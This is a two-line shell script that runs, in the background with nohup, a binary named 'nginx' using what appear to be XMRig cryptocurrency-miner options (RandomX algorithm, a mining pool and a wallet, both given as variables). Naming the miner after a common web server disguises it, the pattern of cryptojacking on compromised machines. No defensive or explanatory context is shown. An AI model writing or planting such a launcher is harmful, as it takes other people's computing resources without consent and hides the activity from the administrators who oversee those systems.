#!/bin/sh
nohup ./nginx -a rx/0 -o $POOL -u $WALLET --donate-level 1 &
